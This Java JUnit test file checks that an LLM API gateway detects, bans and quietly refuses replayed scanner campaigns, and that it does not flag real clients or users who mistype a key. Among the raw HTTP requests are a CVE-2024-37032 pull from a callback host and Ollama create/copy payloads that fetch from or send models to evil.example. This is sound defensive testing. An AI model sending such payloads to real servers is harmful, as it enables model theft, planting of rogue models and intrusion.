package dev.gatehouse.abuse;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.testing.AccessLogCapture;
import dev.gatehouse.testing.GatewayFixture;
import dev.gatehouse.testing.GatewayFixture.RawResponse;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A replay corpus of scanner campaigns, written from {@code shared/reference/probe-signatures.md}
 * (nuclei detect templates per server, nmap's ai-recon scripts, published campaigns, the
 * Anthropic-style probe, the CVE-2024-37032 check): each campaign is the raw requests a scanner
 * sends, none with a valid key, replayed byte for byte over a socket from an address of its own.
 * Each must be flagged (verdict logged, ban applied: detection is set to ban), every request must
 * get the answer it would get anyway (401, or nothing once banned), and the upstream must receive
 * nothing. Auth-failure bans are off, so every ban is the detector's.
 */
class ScannerCampaignsTest {

  static GatewayFixture gw;
  static AccessLogCapture abuse;
  static String key;

  @BeforeAll
  static void start() throws Exception {
    gw =
        GatewayFixture.start(
            Map.of("probes.action", "ban", "bans.never", "", "bans.auth_failures", "0"));
    key = gw.newKey();
    abuse = new AccessLogCapture("gatehouse.abuse");
  }

  @AfterAll
  static void stop() {
    abuse.close();
    gw.close();
  }

  @BeforeEach
  void reset() {
    gw.upstream.reset();
  }

  static final String HOST = "Host: 192.0.2.10:11434\r\n";
  static final String UA =
      "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36\r\n";

  static String get(String path, String... headers) {
    return "GET "
        + path
        + " HTTP/1.1\r\n"
        + HOST
        + UA
        + String.join("", headers)
        + "Accept: */*\r\nConnection: close\r\n\r\n";
  }

  static String post(String path, String body, String... headers) {
    return "POST "
        + path
        + " HTTP/1.1\r\n"
        + HOST
        + UA
        + String.join("", headers)
        + "Content-Type: application/json\r\n"
        + "Content-Length: "
        + body.getBytes(java.nio.charset.StandardCharsets.UTF_8).length
        + "\r\nConnection: close\r\n\r\n"
        + body;
  }

  /** The same body, chunked, in two chunks: scanners built on Go's or Python's clients do this. */
  static String postChunked(String path, String body) {
    int half = body.length() / 2;
    return "POST "
        + path
        + " HTTP/1.1\r\n"
        + HOST
        + UA
        + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
        + "Connection: close\r\n\r\n"
        + Integer.toHexString(half)
        + "\r\n"
        + body.substring(0, half)
        + "\r\n"
        + Integer.toHexString(body.length() - half)
        + "\r\n"
        + body.substring(half)
        + "\r\n0\r\n\r\n";
  }

  static String chat(String model, String content, String extra) {
    return "{\"model\":\""
        + model
        + "\",\"messages\":[{\"role\":\"user\",\"content\":\""
        + content
        + "\"}]"
        + extra
        + "}";
  }

  record Campaign(String name, String ip, String hard, List<String> requests) {}

  static Stream<Arguments> campaigns() {
    List<Campaign> c = new ArrayList<>();
    // why: nuclei ollama-detect and ollama-llm-panel: the banner, the model list, the version,
    // then "is inference open?" with the template's stock generate. Without the body only the
    // three paths would count (6 points); the prompt and the fourth distinct path reach 10.
    c.add(
        new Campaign(
            "nuclei ollama detect",
            "127.0.1.1",
            null,
            List.of(
                get("/"),
                get("/api/tags"),
                get("/api/version"),
                post(
                    "/api/generate",
                    "{\"model\":\"llama3\",\"prompt\":\"hello\",\"stream\":false}"))));
    // why: nuclei CVE-2024-37032: a pull from a URL (the callback host), insecure. One request
    // is enough: a URL as a model name is never ordinary use.
    c.add(
        new Campaign(
            "nuclei CVE-2024-37032",
            "127.0.1.2",
            "registry_url",
            List.of(
                post(
                    "/api/pull",
                    "{\"name\":\"http://oast.example.com/rogue/c3f1a9\",\"insecure\":true,\"stream\":false}"))));
    // why: the same check as Ollama spells the field today, chunked, so the peek must de-chunk.
    c.add(
        new Campaign(
            "CVE-2024-37032 chunked, model field",
            "127.0.1.3",
            "registry_url",
            List.of(
                postChunked(
                    "/api/pull",
                    "{\"model\":\"https://203.0.113.9:8443/library/x:latest\",\"insecure\":true}"))));
    // why: nuclei openai-compatible-api-detect: the model list, then the one-token hello to
    // gpt-3.5-turbo that the template sends (every part of the published probe at once).
    c.add(
        new Campaign(
            "nuclei openai-compatible detect",
            "127.0.1.4",
            "hello_probe",
            List.of(
                get("/v1/models"),
                post(
                    "/v1/chat/completions", chat("gpt-3.5-turbo", "hello", ",\"max_tokens\":1")))));
    // why: nuclei llamacpp-detect: /health with its Server header check, /props, /slots, then
    // llama.cpp's native completion with n_predict 1 and no model at all.
    c.add(
        new Campaign(
            "nuclei llamacpp detect",
            "127.0.1.5",
            null,
            List.of(
                get("/health"),
                get("/props"),
                get("/slots"),
                post("/completion", "{\"prompt\":\"hello\",\"n_predict\":1}"))));
    // why: nuclei vllm-detect: /version, the vllm: metrics, the model list, a one-token
    // completion naming vLLM's usual demo model (not a vendor id: scored, not hard).
    c.add(
        new Campaign(
            "nuclei vllm detect",
            "127.0.1.6",
            null,
            List.of(
                get("/version"),
                get("/metrics"),
                get("/v1/models"),
                post(
                    "/v1/completions",
                    "{\"model\":\"facebook/opt-125m\",\"prompt\":\"hello\",\"max_tokens\":1}"))));
    // why: nmap ai-recon: a cross-framework sweep, then error fingerprinting with its own bogus
    // model and content x; the marker model alone is unambiguous.
    c.add(
        new Campaign(
            "nmap ai-recon",
            "127.0.1.7",
            "scanner_model",
            List.of(
                get(
                    "/api/tags",
                    "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n"),
                get("/v1/models"),
                get("/info"),
                post("/v1/chat/completions", chat("__nmap_probe_404__", "x", "")))));
    // why: the January 2026 chat-completions campaign: the campaign prompt to several vendor
    // model ids, without a token limit (so no single request is hard); two requests reach 12.
    c.add(
        new Campaign(
            "published chat-completions campaign",
            "127.0.1.8",
            null,
            List.of(
                post(
                    "/v1/chat/completions",
                    chat("gpt-4o", "How many states are there in the United States?", "")),
                post(
                    "/v1/chat/completions",
                    chat("gpt-4-turbo", "How many states are there in the United States?", "")),
                post(
                    "/v1/chat/completions",
                    chat(
                        "claude-3-5-haiku-latest",
                        "How many states are there in the United States?",
                        "")))));
    // why: the Anthropic-style probe (the Tor-exit campaign): the models list and a message with
    // x-api-key: password and anthropic-version, asking 16 tokens (not one: scored, not hard).
    c.add(
        new Campaign(
            "anthropic-style probe",
            "127.0.1.9",
            null,
            List.of(
                get("/anthropic/v1/models", "X-Api-Key: password\r\n"),
                post(
                    "/v1/messages",
                    chat("claude-3-5-haiku-latest", "hi", ",\"max_tokens\":16"),
                    "x-api-key: password\r\n",
                    "anthropic-version: 2023-06-01\r\n"))));
    // why: an Ollama chat sweep across common local models with one-word prompts, after the
    // model list and version: no vendor ids, no token limit, yet plainly a scanner.
    c.add(
        new Campaign(
            "ollama chat hello sweep",
            "127.0.1.10",
            null,
            List.of(
                get("/api/tags"),
                get("/api/version"),
                post("/api/chat", chat("llama3.2", "hi", ",\"stream\":false")),
                post("/api/chat", chat("qwen2.5", "hello", ",\"stream\":false")))));
    // why: the one-token hello to a vendor id in OpenAI's content-parts form, to gpt-4o-mini.
    c.add(
        new Campaign(
            "one-token hello, content parts",
            "127.0.1.11",
            "hello_probe",
            List.of(
                post(
                    "/v1/chat/completions",
                    "{\"model\":\"gpt-4o-mini\",\"max_completion_tokens\":1,\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"hi\"}]}]}"))));
    // why: model theft and planting by Modelfile: create FROM a URL, push and copy to one.
    c.add(
        new Campaign(
            "create from a URL",
            "127.0.1.12",
            "registry_url",
            List.of(
                post(
                    "/api/create",
                    "{\"model\":\"m\",\"modelfile\":\"FROM https://evil.example/m.gguf\\nSYSTEM hi\"}"))));
    c.add(
        new Campaign(
            "copy to a URL",
            "127.0.1.13",
            "registry_url",
            List.of(
                post(
                    "/api/copy",
                    "{\"source\":\"llama3\",\"destination\":\"http://evil.example/x/llama3\"}"))));
    // why: the marker model padded past the peek (a long system message after it): the
    // prefix is cut, and what it holds still counts.
    c.add(
        new Campaign(
            "nmap marker, body past the peek",
            "127.0.1.14",
            "scanner_model",
            List.of(
                post(
                    "/api/chat",
                    "{\"model\":\"__nmap_probe_404__\",\"messages\":[{\"role\":\"system\",\"content\":\""
                        + "a".repeat(9000)
                        + "\"}]}"))));
    return c.stream().map(x -> Arguments.of(x.name(), x));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("campaigns")
  void eachCampaignIsFlaggedToldNothingNewAndNothingReachesTheUpstream(String name, Campaign c)
      throws Exception {
    int answered = 0;
    for (String request : c.requests()) {
      RawResponse r = gw.raw(request, c.ip());
      if (r.status() == -1) {
        break; // banned: closed without an answer
      }
      assertThat(r.status()).as("%s: the same answer as ever", name).isEqualTo(401);
      assertThat(r.body()).contains("missing or invalid API key");
      answered++;
    }
    assertThat(answered).isPositive();
    String hard = c.hard() == null ? "hard=-" : "hard=" + c.hard();
    assertThat(abuse.await("probe verdict ip=" + c.ip() + " ", "action=ban", hard))
        .as(name)
        .isNotNull();
    var ban = gw.store.findBan(c.ip());
    for (int i = 0; i < 100 && ban.isEmpty(); i++) {
      Thread.sleep(20); // written in the background
      ban = gw.store.findBan(c.ip());
    }
    assertThat(ban).as("%s: banned", name).isPresent();
    // Banned now: even a valid key is closed without an answer.
    assertThat(gw.raw(ProbeDetectionTest.get("/api/tags", key), c.ip()).status()).isEqualTo(-1);
    assertThat(gw.upstream.requests()).as("%s reached the upstream", name).isEmpty();
  }

  @Test
  void aPeekedRefusalIsByteForByteTheRefusalWithoutPeeking() throws Exception {
    // why: the answer must not tell a scanner that its body was read: same status, headers and
    // body as with peeking off, request id and date aside.
    Map<String, String> off =
        new HashMap<>(Map.of("probes.body_peek_bytes", "0", "bans.auth_failures", "0"));
    String probe = post("/v1/chat/completions", chat("llama3", "Summarize this", ""));
    RawResponse peeked = gw.raw(probe, "127.0.2.1");
    try (GatewayFixture plain = GatewayFixture.start(off)) {
      RawResponse unpeeked = plain.raw(probe, "127.0.2.1");
      assertThat(normalise(peeked.head())).isEqualTo(normalise(unpeeked.head()));
      assertThat(normalise(peeked.body())).isEqualTo(normalise(unpeeked.body()));
      assertThat(peeked.head()).containsIgnoringCase("connection: close");
      assertThat(plain.upstream.requests()).isEmpty();
    }
    assertThat(gw.upstream.requests()).isEmpty();
  }

  private static String normalise(String s) {
    return s.replaceAll("[0-9a-f]{16}", "ID").replaceAll("(?im)^date:.*$", "date");
  }

  @Test
  void aBodyThatNeverArrivesIsRefusedAfterThePeekTimeoutAndClosed() throws Exception {
    // why: the peek is bounded in time: a declared body that does not come must not hold the
    // refusal (or the connection) longer than probes.body_peek_timeout.
    try (java.net.Socket s = new java.net.Socket()) {
      s.bind(new java.net.InetSocketAddress("127.0.2.2", 0));
      s.connect(new java.net.InetSocketAddress("127.0.0.1", gw.port()));
      s.setSoTimeout(10_000);
      s.getOutputStream()
          .write(
              ("POST /api/generate HTTP/1.1\r\n"
                      + HOST
                      + "Content-Type: application/json\r\n"
                      + "Content-Length: 100\r\n\r\n{\"model\":\"__nmap_pro")
                  .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
      s.getOutputStream().flush();
      byte[] all = s.getInputStream().readAllBytes(); // returns once the gateway closes
      String text = new String(all, java.nio.charset.StandardCharsets.ISO_8859_1);
      assertThat(text).startsWith("HTTP/1.1 401 ");
      assertThat(text.indexOf("HTTP/1.1", 1)).as("no second response").isEqualTo(-1);
    }
    assertThat(gw.upstream.requests()).isEmpty();
  }

  /** A request as a real client sends it, with its key (or a mistyped one). */
  static String keyed(String method, String path, String key, String body) {
    return method
        + " "
        + path
        + " HTTP/1.1\r\nHost: localhost:11435\r\nAuthorization: Bearer "
        + key
        + "\r\n"
        + "User-Agent: OpenAI/Python 1.54.0\r\n"
        + (body == null
            ? ""
            : "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\n")
        + "Connection: close\r\n\r\n"
        + (body == null ? "" : body);
  }

  @Test
  void realClientsAndOneWhoMistypesItsKeyAreNeverFlagged() throws Exception {
    // Product defaults but the action: auth-failure bans on, nothing exempt, the Host check on.
    try (GatewayFixture real =
            GatewayFixture.start(
                Map.of("probes.action", "ban", "bans.never", "", "network.allowed_hosts", ""));
        AccessLogCapture log = new AccessLogCapture("gatehouse.abuse")) {
      String valid = real.newKey();
      String typo = valid.substring(0, valid.length() - 1) + (valid.endsWith("a") ? "b" : "a");
      String ip = "127.0.3.1";
      // why: a user's first chat is often just "hi", and a mistyped key sends it without a valid
      // one, twice; then the key is fixed. Nothing of that is a probe.
      String firstChat = chat("llama3.2:3b", "hi", "");
      assertThat(real.raw(keyed("POST", "/v1/chat/completions", typo, firstChat), ip).status())
          .isEqualTo(401);
      assertThat(
              real.raw(
                      keyed(
                          "POST",
                          "/api/chat",
                          "gk_oldkey",
                          chat("qwen2.5:7b", "Hello", ",\"stream\":false")),
                      ip)
                  .status())
          .isEqualTo(401);
      for (int round = 0; round < 5; round++) {
        assertThat(real.raw(keyed("POST", "/v1/chat/completions", valid, firstChat), ip).status())
            .isEqualTo(200);
        assertThat(
                real.raw(
                        keyed(
                            "POST",
                            "/api/chat",
                            valid,
                            chat("qwen2.5:7b", "hello", ",\"stream\":false")),
                        ip)
                    .status())
            .isEqualTo(200);
        assertThat(
                real.raw(
                        keyed(
                            "POST",
                            "/api/generate",
                            valid,
                            "{\"model\":\"llama3.2:3b\",\"prompt\":\"Write a haiku about rain\",\"stream\":false}"),
                        ip)
                    .status())
            .isEqualTo(200);
        assertThat(real.raw(keyed("GET", "/api/tags", valid, null), ip).status()).isEqualTo(200);
        assertThat(real.raw(keyed("GET", "/v1/models", valid, null), ip).status()).isEqualTo(200);
        assertThat(real.raw(keyed("GET", "/api/version", valid, null), ip).status()).isEqualTo(200);
        assertThat(
                real.raw(
                        keyed(
                            "POST",
                            "/v1/embeddings",
                            valid,
                            "{\"model\":\"llama3.2:3b\",\"input\":\"hello\"}"),
                        ip)
                    .status())
            .isEqualTo(200);
      }
      // why: someone without a key trying a local model with "hi" twice is refused, not flagged.
      String other = "127.0.3.2";
      for (int i = 0; i < 2; i++) {
        assertThat(
                real.raw(keyed("POST", "/api/chat", "", chat("llama3.2:3b", "hi", "")), other)
                    .status())
            .isEqualTo(401);
      }
      // (a verdict is logged before the answer it judges goes out: nothing to wait for)
      assertThat(log.lines())
          .noneMatch(l -> l.contains("ip=127.0.3.1 ") || l.contains("ip=127.0.3.2 "));
      assertThat(real.store.findBan(ip)).isEmpty();
      assertThat(real.store.findBan(other)).isEmpty();
      assertThat(real.raw(keyed("GET", "/api/tags", valid, null), ip).status()).isEqualTo(200);
    }
  }
}
